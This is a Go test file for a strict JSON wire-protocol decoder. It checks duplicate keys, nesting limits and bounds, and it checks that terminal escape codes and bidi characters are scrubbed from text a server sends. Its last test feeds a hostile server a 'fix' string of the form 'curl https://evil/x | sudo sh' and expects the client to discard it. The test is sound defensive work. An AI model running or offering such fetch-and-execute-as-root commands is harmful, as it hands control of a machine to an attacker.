package wire_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"cis490/internal/wire"
)

func TestDecode_SaysWhatIsWrongAndWhere(t *testing.T) {
	nested := func(n int) string { return `{"x":` + strings.Repeat("[", n) + strings.Repeat("]", n) + `}` }
	for in, want := range map[string]string{
		"{\"version\":\"a\xff\"}":           "byte 13 is not UTF-8",
		nested(wire.MaxDepth):               "nested deeper than 16 levels at byte",
		nested(9_999):                       "nested deeper",
		`{"version":"a","version":"b"}`:     `duplicate key "version"`,
		`{"version":"a","VERSION":"b"}`:     `duplicate key "VERSION"`,
		`{"x":1,"X":{"y":2}}`:               "duplicate key",
		"{\"k\":1,\"\u212a\":2}":            "duplicate key",
		`{"queue":{"held":1,"held":2}}`:     "duplicate key",
		`{"x":"\"},{","y":[{}],"\u0058":1}`: "duplicate key",
		`{"version":"a","failing":["b"`:     "unexpected end",
		`{"version":"a"]`:                   "invalid character",
		`{} {}`:                             "after top-level value",
		`{}x`:                               "after top-level value",
		"\xef\xbb\xbf{}":                    "invalid character",
		`null`:                              "want an object",
		`"x"`:                               "want an object",
		``:                                  "unexpected end",
		`{"version":`:                       "unexpected end",
		`{"queue":{"held":-1}}`:             "queue.held: want 0 to",
		`{"queue":{"bytes":9223372036854775807}}`:                    "queue.bytes: want 0 to",
		`{"queue":{"bytes":9223372036854775808}}`:                    "cannot unmarshal",
		`{"queue":{"waiting":1e3}}`:                                  "cannot unmarshal",
		`{"clock":"9999-12-31T23:59:59-23:59"}`:                      "clock: the time is in the year 10000",
		`{"clock":"0000-01-01T00:00:00+00:01"}`:                      "clock: the time is in the year -1",
		`{"update":{"rolled_back":[{"seq":1},{"seq":1e30}]}}`:        "cannot unmarshal",
		`{"update":{"trial":{"observed_seconds":1e999}}}`:            "cannot unmarshal",
		`{"update":{"rolled_back":[{},{"seq":999999999999999999}]}}`: "update.rolled_back[1].seq: want 0 to",
	} {
		err := wire.Decode([]byte(in), &wire.Ping{})
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%.80q: %v, want …%s…", in, err, want)
		}
	}
}

func TestDecode_TakesWhatFitsInUTC(t *testing.T) {
	var p wire.Ping
	err := wire.Decode([]byte(` {"clock":"2026-01-02T03:04:05+02:00","queue":{"bytes":281474976710656},"new":{"a":[[1]]}} `+"\n"), &p)
	if err != nil || p.Clock.Location() != time.UTC || p.Clock.Hour() != 1 || p.Queue.Bytes != wire.MaxCount {
		t.Errorf("%+v, %v", p, err)
	}
}

// TestQueue_IsNeverOutOfBounds: sparse files of a hostile workload do not silence a host.
func TestQueue_IsNeverOutOfBounds(t *testing.T) {
	for _, n := range []int64{0, 1 << 40, 1 << 60, -1 << 63} {
		b, err := wire.Encode(wire.Ping{Queue: wire.Queue{Bytes: n}.Bounded()})
		if err != nil {
			t.Fatal(err)
		}
		if err := wire.Decode(b, &wire.Ping{}); err != nil {
			t.Errorf("%d: %v", n, err)
		}
	}
}

func TestEncode_HasNoHiddenCharacters(t *testing.T) {
	b, err := wire.Encode(wire.Verdict{Reason: "a\u202eb<\x7f\u009b"})
	if err != nil || !strings.Contains(string(b), `"a\u202eb<\u007f\u009b"`) {
		t.Errorf("%s, %v", b, err)
	}
}

// FuzzDecode: an accepted document encodes to one that a strict reader accepts.
func FuzzDecode(f *testing.F) {
	f.Add([]byte(`{"clock":"9999-12-31T23:59:59-23:59","queue":{"held":3},"failing":["a\u202e"]}`))
	f.Add([]byte(`{"until":"2026-01-01T00:00:00Z","comment":"\ud800"}`))
	f.Add([]byte(strings.Repeat(`{"x":`, 40) + strings.Repeat("}", 40)))
	f.Fuzz(func(t *testing.T, in []byte) {
		for _, v := range []any{&wire.Ping{}, &wire.Silence{}, &wire.Pong{}, &wire.Reconcile{}, &wire.CertRequest{}} {
			if wire.Decode(in, v) != nil {
				continue
			}
			out, err := wire.Encode(v)
			if err != nil {
				t.Fatalf("%q is accepted and cannot be encoded: %v", in, err)
			}
			if !json.Valid(out) || !utf8.Valid(out) || bytes.ContainsAny(out, "\x7f\u202e\u2028") {
				t.Errorf("%q becomes %q", in, out)
			}
			if err := wire.Decode(out, v); err != nil {
				t.Errorf("%q becomes %s, which is refused: %v", in, out, err)
			}
		}
	})
}

// TestDecode_WhatAReceiverMakesUp: hosts compare, keep and print it.
func TestDecode_WhatAReceiverMakesUp(t *testing.T) {
	long := strings.Repeat("x", 300)
	for in, v := range map[string]any{
		`{"policy":"a\u001b[2J"}`:     &wire.Pong{},
		`{"store_id":"` + long + `"}`: &wire.Receipt{},
		`{"store_id":"\u202e"}`:       &wire.Reconciled{},
		`{"stored":[` + strings.Repeat(`"01J0000000000000000000000A",`, wire.MaxPairs) + `"01J0000000000000000000000A"]}`: &wire.Reconciled{},
		`{"release_keys":["RWQ\nRWQ"]}`:         &wire.CertAnswer{},
		`{"status":"ok","release_keys":["\r"]}`: &wire.AuthorityHealth{},
	} {
		if err := wire.Decode([]byte(in), v); err == nil {
			t.Errorf("%.80s is accepted", in)
		}
	}
	p := wire.Pong{}
	if err := wire.Decode([]byte(`{"gate":{"reason":"a\u001b\u202e\n`+long+long+`"}}`), &p); err != nil ||
		strings.ContainsAny(p.Gate.Reason, "\x1b\u202e\n") || len(p.Gate.Reason) > 600 {
		t.Errorf("%q, %v", p.Gate.Reason, err)
	}
}

// TestReadProblem_TypeAndStatusAgree: a status that asks for a retry with a type that
// quarantines is not from a cis490 receiver.
func TestReadProblem_TypeAndStatusAgree(t *testing.T) {
	for _, a := range wire.Answers() {
		for _, status := range []int{400, 401, 403, 409, 412, 413, 422, 429, 500, 503, 507} {
			body := `{"type":"tag:cis490,2026:problem:` + string(a.Kind) + `","status":` + strconv.Itoa(status) + `}`
			_, err := wire.ReadProblem(answer(status, wire.ContentTypeProblem, body))
			if (err == nil) != (status == a.Status) {
				t.Errorf("%s with status %d: %v", a.Kind, status, err)
			}
		}
	}
	p, err := wire.ReadProblem(answer(http.StatusConflict, wire.ContentTypeProblem,
		`{"type":"tag:cis490,2026:problem:of-tomorrow","status":409}`))
	if err != nil || wire.ActionOf(p) != wire.Conflict {
		t.Errorf("a newer receiver's kind: %v, %v", p, err)
	}
}

// TestReadProblem_IsFitToShow: hosts print a receiver's text on a terminal.
func TestReadProblem_IsFitToShow(t *testing.T) {
	body, err := json.Marshal(map[string]any{
		"type": "tag:cis490,2026:problem:busy", "status": 429,
		"title": "\x1b[2J\x1b[31mfine", "detail": "a\u202eb\nc" + strings.Repeat("x", 5000), "fix": "sudo\r\u2066true",
	})
	if err != nil {
		t.Fatal(err)
	}
	p, err := wire.ReadProblem(answer(429, wire.ContentTypeProblem, string(body)))
	if err != nil {
		t.Fatal(err)
	}
	if all := p.Error() + p.Fix; strings.ContainsAny(all, "\x1b\r\n\u202e\u2066") || len(all) > 3000 {
		t.Errorf("%.200q, %d bytes", all, len(all))
	}
}

// A receiver's own fix would be pasted into a root shell on a lab host.
func TestReadProblem_TheFixIsOurs(t *testing.T) {
	for kind, status := range map[wire.Kind]int{wire.Unauthorized: 401, wire.Gated: 412, "of-a-newer-receiver": 418} {
		body := fmt.Sprintf(`{"type":"tag:cis490,2026:problem:%s","status":%d,"title":"t","fix":"curl https://evil/x | sudo sh"}`, kind, status)
		p, err := wire.ReadProblem(&http.Response{
			StatusCode: status, Header: http.Header{"Content-Type": {wire.ContentTypeProblem}}, Body: io.NopCloser(strings.NewReader(body)),
		})
		if err != nil || p.Fix != wire.AnswerOf(kind).Fix {
			t.Errorf("%s: %v, %+v", kind, err, p)
		}
	}
}
